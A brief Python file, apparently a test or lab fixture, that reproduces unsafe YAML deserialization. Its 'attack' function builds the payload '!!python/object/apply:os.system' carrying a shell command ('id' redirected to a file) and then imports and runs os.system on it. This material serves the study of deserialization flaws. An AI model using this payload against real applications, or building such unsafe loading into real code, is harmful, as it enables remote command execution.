"""A settings file loaded unsafely, as PyYAML's UnsafeLoader does it."""

import importlib
import re


def attack(event):
    document = "!!python/object/apply:os.system ['id >%s']" % event["out"]
    name, argument = re.match(r"!!python/object/apply:(\S+) \['(.*)'\]", document).groups()
    module, _, function = name.rpartition(".")
    return getattr(importlib.import_module(module), function)(argument)
